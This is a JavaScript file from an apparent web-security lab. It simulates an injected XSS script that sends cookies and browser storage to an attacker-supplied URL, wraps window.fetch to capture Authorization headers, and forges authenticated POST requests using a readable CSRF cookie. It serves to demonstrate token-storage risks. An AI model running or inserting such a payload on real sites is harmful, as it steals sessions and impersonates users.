// Stands for a script an attacker managed to inject into the API's own page (the lab has no injection point:
// the lab page loads this fixed file). It runs with the page's origin: the page's cookies go with its
// requests, and it reads whatever a script can read. It reports to the lab on a "lab:injected" event.
"use strict";
(async () => {
  const me = document.currentScript;
  const { task, run, attacker } = me.dataset;
  const targets = JSON.parse(me.dataset.targets);
  const report = (detail) => document.dispatchEvent(new CustomEvent("lab:injected", { detail }));
  const cookie = (name) => {
    const found = document.cookie.split("; ").find((c) => c.startsWith(name + "="));
    return found ? decodeURIComponent(found.slice(name.length + 1)) : "";
  };

  if (task === "steal") {
    // Everything a script can read, sent to the attacker's server as an image request would carry it.
    const loot = {
      cookies: document.cookie,
      localStorage: Object.fromEntries(Object.entries(localStorage)),
      sessionStorage: Object.fromEntries(Object.entries(sessionStorage)),
    };
    const url = `${attacker}/collect/?run=${run}&loot=${encodeURIComponent(JSON.stringify(loot))}`;
    await fetch(url, { mode: "no-cors", credentials: "omit" }).catch(() => {});
    report({ loot });
    return;
  }

  // task === "misuse": act as the victim from the victim's page, without taking anything away.
  // A token held in a variable is out of reach, so wrap fetch and wait for the page to send it.
  const seen = new Map();
  const waiting = new Map();
  const pageFetch = window.fetch;
  window.fetch = function (url, init = {}) {
    const ns = String(url).match(/\/api\/([^/]+)\//);
    const authorization = init.headers && init.headers.Authorization;
    if (ns && authorization) {
      seen.set(ns[1], authorization);
      (waiting.get(ns[1]) || []).forEach((resolve) => resolve(authorization));
    }
    return pageFetch.apply(this, arguments);
  };
  const nextAuthorization = (ns) => seen.has(ns) ? Promise.resolve(seen.get(ns)) : new Promise((resolve) => {
    waiting.set(ns, [...(waiting.get(ns) || []), resolve]);
    setTimeout(() => resolve(""), 5000); // the page may never send it
  });

  const misused = {};
  await Promise.all(targets.map(async (t) => {
    const headers = { "Content-Type": "application/json", Accept: "application/json" };
    let credentials = "omit";
    if (t.kind === "session" || t.kind === "cookie" || t.kind === "basic") {
      credentials = "same-origin"; // the browser adds the cookies or its cached Basic credentials
      headers[t.csrfHeader] = cookie(t.csrfCookie); // the CSRF cookie is readable on purpose
      misused[`${t.ns}/${t.storage}`] = t.kind === "basic" ? "the browser added its cached Basic credentials"
        : `the browser added the cookies; ${t.csrfHeader} from document.cookie`;
    } else if (t.storage === "localStorage") {
      headers.Authorization = `${t.keyword} ${localStorage.getItem(t.storageKey)}`;
      misused[`${t.ns}/${t.storage}`] = `Authorization from localStorage["${t.storageKey}"]`;
    } else {
      const authorization = await nextAuthorization(t.ns);
      if (!authorization) return;
      headers.Authorization = authorization;
      misused[`${t.ns}/${t.storage}`] = "Authorization copied from the page's own next request (fetch wrapped)";
    }
    await pageFetch(`/api/${t.ns}/notes/`, {
      method: "POST", credentials, headers, body: JSON.stringify({ title: t.title, body: "sent by the injected script" }),
    });
  }));
  report({ misused });
})();
